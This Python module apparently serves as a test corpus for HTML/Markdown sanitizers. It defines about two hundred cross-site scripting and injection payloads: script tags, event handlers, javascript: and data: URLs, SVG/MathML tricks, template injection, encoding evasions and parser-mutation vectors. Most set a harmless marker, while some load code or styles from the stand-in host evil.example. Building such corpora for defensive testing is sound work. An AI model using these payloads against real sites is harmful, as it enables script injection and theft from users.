"""Two hundred texts that would be obeyed where a page took text for markup or for code."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_DO = "window.__pwned=1"
_AWAY = "https://evil.example"

_SCRIPTS = [
    f"<script>{_DO}</script>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script src={_AWAY}/a.js></script>",
    f"<script>alert(1);{_DO}</script >",
    f"</script><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"<<script>{_DO}//<</script>",
    f"<script\x0c>{_DO}</script>",
    f"<script/x>{_DO}</script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<noscript><p title='</noscript><script>{_DO}</script>'>",
    f"<script type=module>import '{_AWAY}/m.js';{_DO}</script>",
]
_EVENTS = [
    f"<{tag} {event}={_DO}>"
    for tag, events in {
        "img src=x": ("onerror", "onload"),
        "body": ("onload", "onpageshow", "onhashchange"),
        "input autofocus": ("onfocus", "onblur"),
        "video src=x": ("onerror", "onloadstart"),
        "audio src=x": ("onerror", "oncanplay"),
        "details open": ("ontoggle",),
        "marquee": ("onstart", "onfinish"),
        "div tabindex=0": ("onfocus", "onpointerenter", "onanimationstart", "onwheel"),
        "a href=#": ("onclick", "onmouseover", "onauxclick"),
        "iframe": ("onload",),
        "object data=x": ("onerror",),
        "link rel=stylesheet href=x": ("onerror",),
        "select autofocus": ("onfocus",),
        "textarea autofocus": ("onfocus",),
        "keygen autofocus": ("onfocus",),
        "style": ("onload",),
        "form": ("onsubmit", "onformdata"),
        "button popovertarget=x": ("onclick", "onbeforetoggle"),
        "p contenteditable": ("oninput", "onpaste"),
    }.items()
    for event in events
]
_QUOTES = [
    f'" onmouseover="{_DO}" x="',
    f"' onmouseover='{_DO}' x='",
    f'"><img src=x onerror={_DO}>',
    f"'><img src=x onerror={_DO}>",
    f"`-{_DO}-`",
    f'";{_DO};//',
    f"';{_DO};//",
    f"\\';{_DO};//",
    f"\\u0022;{_DO};//",
    f"--></script><img src=x onerror={_DO}>",
    f"]]><img src=x onerror={_DO}>",
    f"*/{_DO}/*",
]
_SCHEMES = [
    f"{scheme}{rest}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java\tscript:",
        "javascript&colon;",
        "&#106;avascript:",
        "\x01javascript:",
        "vbscript:",
    )
    for rest in (_DO, f"//%0a{_DO}")
] + [
    f"data:text/html,<script>{_DO}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={_DO}>",
    f"blob:{_AWAY}/x",
    f"file:///etc/passwd#{_DO}",
    f"//evil.example/{_DO}",
    f"view-source:javascript:{_DO}",
    f"feed:javascript:{_DO}",
]
_LINKS = [
    form.replace("URL", url)
    for form in (
        "[click](URL)",
        "![picture](URL)",
        "<URL>",
        "[click]: URL\n\n[click]",
        '[click](<URL> "a title")',
        "[![picture](URL)](URL)",
        "URL",
    )
    for url in (
        f"javascript:{_DO}",
        f"JAVASCRIPT:{_DO}",
        f"javascript&#58;{_DO}",
        f"data:text/html,<svg/onload={_DO}>",
        f"{_AWAY}/a.png?{_DO}",
        f"vbscript:{_DO}",
    )
] + [
    f"[a](javascript:{_DO}//https://example.com)",
    f"[a](//evil.example/%0d%0a{_DO})",
    f'[a](https://example.com"onmouseover="{_DO})',
    f'![a](x "onerror={_DO}")',
    f'![a"onerror="{_DO}](x)',
    f"[a](https://example.com){{: onclick={_DO}}}",
    f"# <img src=x onerror={_DO}>",
    f"> <img src=x onerror={_DO}>",
    f"- [x] <img src=x onerror={_DO}>",
    f"| a |\n|---|\n| <img src=x onerror={_DO}> |",
    f"```html\n<script>{_DO}</script>\n```",
    f"`<img src=x onerror={_DO}>`",
    f'```"><img src=x onerror={_DO}>\nx\n```',
    f"[^1]: <img src=x onerror={_DO}>\n\nsee [^1]",
    f"www.evil.example/<script>{_DO}</script>",
    f"a@evil.example'onclick='{_DO}",
]
_DRAWINGS = [
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><script href=data:,{_DO} /></svg>",
    f"<svg><a xlink:href=javascript:{_DO}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_DO}>",
    f"<svg><foreignObject><img src=x onerror={_DO}></foreignObject></svg>",
    f"<svg><image href={_AWAY}/x.png onerror={_DO}></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={_DO}>#x></svg>",
    f"<svg><style><img src=x onerror={_DO}></style></svg>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<math href=javascript:{_DO}>CLICK</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_DO}>x</maction></math>",
    f"$\\href{{javascript:{_DO}}}{{x}}$",
    f"$\\url{{javascript:{_DO}}}$",
    f"$\\includegraphics{{{_AWAY}/x.png}}$",
    f"$\\htmlData{{onclick={_DO}}}{{x}}$",
    f"$\\style{{background:url({_AWAY}/x)}}{{x}}$",
    f'$$\\class{{x" onclick="{_DO}}}{{x}}$$',
]
_COMMENTS = [
    f"<!--><img src=x onerror={_DO}>-->",
    f"<!-- --!><img src=x onerror={_DO}> -->",
    f"<!--[if IE]><script>{_DO}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={_DO}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={_DO}>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_AWAY}'>]>&y;",
]
_TEMPLATES = [
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"${{{_DO}}}",
    f"#{{{_DO}}}",
    f"<%= {_DO} %>",
    f"{{% include '{_AWAY}' %}}",
    f"{{{{count}}}} {{{{name}}}} $t(do.undo) {_DO}",
    f"{{{{'a'.constructor.prototype.charAt=[].join;$eval('x={_DO}')}}}}",
    f"[[${{{_DO}}}]]",
    f"@({_DO})",
    '{"__proto__": {"__pwned": 1}, "dangerouslySetInnerHTML": {"__html": "<img onerror=1>"}}',
]
_LETTERS = [
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
    f"\u202e<img src=x onerror={_DO}>",
    f"<img src=x onerror\u200b={_DO}>",
    f"<img\u2028src=x\u2029onerror={_DO}>",
    f"&lt;img src=x onerror={_DO}&gt;",
    f"&amp;lt;img src=x onerror={_DO}&amp;gt;",
    f"&#60;img src=x onerror={_DO}&#62;",
    f"\\x3cimg src=x onerror={_DO}\\x3e",
    f"\\u003cimg src=x onerror={_DO}\\u003e",
    f"%3Cimg src=x onerror={_DO}%3E",
    f"+ADw-img src=x onerror={_DO}+AD4-",
    f"<\u0131mg src=x onerror={_DO}>",
    f"\ufeff<img src=x onerror={_DO}>",
    "\u0647\u0644\u0627\u2067<b onclick=window.__pwned=1>",
]
_MUTATING = [
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_DO}>",
    f'<svg></p><style><a id="</style><img src=x onerror={_DO}>">',
    f'<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_DO}>">',
    f'<noembed><img title="</noembed><img src=x onerror={_DO}>">',
    f"<template><img src=x onerror={_DO}></template>",
    f"<select><option><style></option></select><img src=x onerror={_DO}></style>",
    f"<p><svg><desc><table><p><img src=x onerror={_DO}>",
    f'<xmp><p title="</xmp><img src=x onerror={_DO}>">',
]
_DOCUMENTS = [
    f"<base href={_AWAY}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<link rel=stylesheet href={_AWAY}/a.css>",
    f"<link rel=prefetch href={_AWAY}/a>",
    f"<style>@import '{_AWAY}/a.css'; * {{background: url({_AWAY}/b)}}</style>",
    f"<div style='background:url({_AWAY}/c)'>x</div>",
    f"<iframe src=javascript:{_DO}></iframe>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<object data=javascript:{_DO}></object>",
    f"<embed src=javascript:{_DO}>",
    f"<form action=javascript:{_DO}><button>x</button></form>",
    f"<button form=x formaction=javascript:{_DO}>x</button>",
    f"<img srcset='{_AWAY}/x.png 1x'>",
    f"<a href='{_AWAY}' ping='{_AWAY}/ping' target=opener>x</a>",
    f"<portal src={_AWAY}></portal>",
    "<img name=getElementById><form id=body><input name=attributes>",
]
PAYLOADS = list(
    dict.fromkeys(
        _SCRIPTS
        + _EVENTS
        + _QUOTES
        + _SCHEMES
        + _LINKS
        + _DRAWINGS
        + _COMMENTS
        + _TEMPLATES
        + _LETTERS
        + _MUTATING
        + _DOCUMENTS
    )
)
"""Each sets `window.__pwned`, asks of another host, or bends the page, where it has its way."""
